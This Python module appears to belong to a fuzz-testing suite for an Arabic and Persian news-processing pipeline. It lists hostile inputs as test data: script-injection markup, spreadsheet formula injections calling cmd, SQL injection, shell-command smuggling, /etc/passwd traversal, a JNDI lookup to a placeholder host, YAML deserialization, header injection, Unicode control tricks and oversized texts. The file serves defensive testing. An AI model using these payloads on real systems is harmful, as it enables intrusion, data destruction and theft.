"""Attacks by words: what a terminal, a browser, a spreadsheet or a database would run, and texts that cost time."""

from collections.abc import Iterator

from hostile.attack import MARK, Attack, line, numbered, text, told

MARKUP = (
    f"<script>{MARK}()</script>", f"<img src=x onerror={MARK}()>", f'"><svg/onload={MARK}()>', f"<iframe srcdoc='{MARK}'>",
    f"</title><script>{MARK}()</script>", f"</textarea><script>{MARK}()</script>", f"--><script>{MARK}()</script>",
    f"]]><script>{MARK}()</script>", f"<a href='javascript:{MARK}()'>خبر</a>", f"' onmouseover='{MARK}()", f"\" autofocus onfocus=\"{MARK}()",
    f"<math><mi xlink:href='data:x,{MARK}'>", f"<base href='//{MARK}.example/'>", f"<meta http-equiv=refresh content='0;{MARK}'>",
    f"<form action=//{MARK}.example><button>", f"<style>@import '//{MARK}.example';</style>", f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"<plaintext>{MARK}", f"<!--{MARK}", f"\\u003cscript\\u003e{MARK}", f"{{{{7*7}}}}${{{{7*7}}}}{MARK}", f"{{% include '/etc/passwd' %}}{MARK}",
    f"[{MARK}](javascript:{MARK}())", f"![{MARK}](https://{MARK}.example/x.png)", f"`{MARK}` **{MARK}** # {MARK}\n# {MARK}",
)  # fmt: skip
FORMULAS = (
    f"=HYPERLINK(\"https://{MARK}.example\",\"خبر\")", f"=cmd|' /C {MARK}'!A0", f"+1+cmd|'{MARK}'!A0", f"-2+3+cmd|'{MARK}'!A0",
    f"@SUM(1+1)*cmd|'{MARK}'!A0", f"\t=1+{MARK}", f"\r=1+{MARK}", f"\n=1+{MARK}", f"＝1+{MARK}", f"＋1+{MARK}", f"－1+{MARK}",
    f"＠SUM({MARK})", f"%0A-3+3+cmd|'{MARK}'!D2", f'"=1+{MARK}"', f";=1+{MARK}", f",=1+{MARK}", f" =1+{MARK}", f"\u200f=1+{MARK}",
)  # fmt: skip
QUERIES = (
    "'); DROP TABLE page;--", "' OR '1'='1", '" UNION SELECT text FROM page --', "%' ESCAPE '\\", "NEAR(ایران, 5) AND *",
    '"ایران" OR text:*', "^ایران -سوریه +", "$(touch zzevil)", "`touch zzevil`", "; touch zzevil", "| touch zzevil",
    "%s%s%s%n", "{0.__class__.__mro__}", "%(page)s", "../../../../etc/passwd", "file:///etc/passwd", "\\\\host\\share",
    "${jndi:ldap://zzevil.example/a}", "!!python/object/apply:os.system", "BEGIN:VEVENT\r\nSUMMARY:zzevil\r\nEND:VEVENT",
    "\r\nX-Injected: zzevil\r\n\r\n", "#Text=zzevil\n1-1\t0-3", "|zzevil[1]|_|",
)  # fmt: skip
SIGNS = (
    "\x1b[31m\x1b]0;zzevil\x07\x1b]8;;https://zzevil.example\x07", "\x9b31m\x90zzevil\x9c", "\x00", "\x08\x08\x08\x7f", "\x0b\x0c\x1c\x1d\x1e\x1f\x85\u2028\u2029",
    "\u202egnp.exe\u202c", "\u2066\u2067\u2068" * 50, "\u202a\u202b\u202d" * 50, "\u2069\u202c" * 50, "\u061c\u200e\u200f" * 50,
    "\ufeff" * 100, "\u200b\u2060\u00ad\u180e", "\ufff9ا\ufffaب\ufffb", "\U000e0041\U000e0042\U000e007f", "\ufffe\uffff\U0001ffff\U0010ffff",
    "\ue000\uf8ff\U000f0000", "آ" + "\u0651\u064e" * 400, "Z" + "\u0336\u0489" * 400, "\u200d\u200c" * 300, "ـ" * 5000,
    "👨\u200d👩\u200d👧" * 300, "\u0d4e\u09cd\u200c", "ﷺﷻ﷽" * 300, "Тehran Тасс Rеuters", "ايران ایران اىران إیران", "٠١٢٣۴۵۶789①Ⅷ²½൪",
    "بشار\u202eدسألا\u202c", "\ud800", "\udfff\ud800",
)  # fmt: skip
NUMBERS = (
    "۹" * 6000, "9" * 6000, "1" * 400 + "." + "1" * 400, "1e999999", "-" * 400 + "1", "1,000," * 900, "٩٬٩٩٩٬" * 900, "0x" + "f" * 999,
    "۹۹۹۹۹۹۹۹۹۹۹۹ سال پیش", "بعد ۹۹۹۹۹۹۹۹۹۹ روز", "قبل 999999999999 سنة", "بعد 99999999 قرن", "۹۹۹۹/۹۹/۹۹", "0000-00-00", "31 فبراير 99999",
    "۳۱ اسفند ۰", "۳۰ بهمن ۹۹۹۹۹", "29 فبراير 2023", "ساعت ۹۹:۹۹", "الساعة 25:61:61", "10000-01-01", "-0001-12-31", "سنة " + "٩" * 5000,
    "میلیارد " * 2000, "صد و " * 2000, "مليون " * 2000, "مقتل " + "9" * 5000 + " مدنيا", "کشته شدن " + "۹" * 5000 + " نفر", "1/" * 3000,
)  # fmt: skip
LONG = 12_000
"""Letters of a text that tries to cost more than its length."""
COSTLY = (
    "«", "»«", "(" , "([{", '"', "…", "؛ ", "، ", "و", "وال", "که ", "أن ", "«گفت: ", "قال إن ", "به گزارش ایرنا به نقل از ", "نقلا عن وكالة ",
    "رئیس‌جمهور ", "وزير الخارجية ", "ایران و ", "در دیدار با ", "التقى ", "می‌", "\u200c", "ا", "لا", "اَ", "a.b@c.", "http://", "#", "@a ", "\n", "-\n",
    "\n\n- ", "1-", "1403/", "۱۲ آذر ", "روز دوشنبه ", "صباح ", "محمد ", "بن ", "عبد ال", "آیت‌الله ", "نفى أن ", "تکذیب کرد که ", "Ø§Ù„", "ï»¿", "\ufffd", "\t",
    " \u00a0\u3000", "٫", "۰٫", "یکی از ", "أحد ", "وكالة ", "خبرگزاری ",
)  # fmt: skip
"""Words and signs that rules begin with, again and again."""


def attacks() -> Iterator[Attack]:
    """Give them all."""
    for kind, some in (("markup", MARKUP), ("formula", FORMULAS), ("query", QUERIES), ("sign", SIGNS), ("number", NUMBERS)):
        for name, payload in numbered(kind, iter(some)):
            yield text(f"text-{name}", payload)
    for kind, some in (("markup", MARKUP), ("formula", FORMULAS), ("query", QUERIES), ("sign", SIGNS)):
        for name, payload in numbered(kind, iter(some)):
            news = told(payload, both=False)
            yield line(f"line-{name}", id=payload, title=payload, publisher=payload, origin=payload, url=payload, text=news)
    for number, unit in enumerate(COSTLY, start=1):
        yield Attack(f"costly-{unit!r}", f"costly-{number:02}.txt", (unit * (LONG // len(unit))).encode())
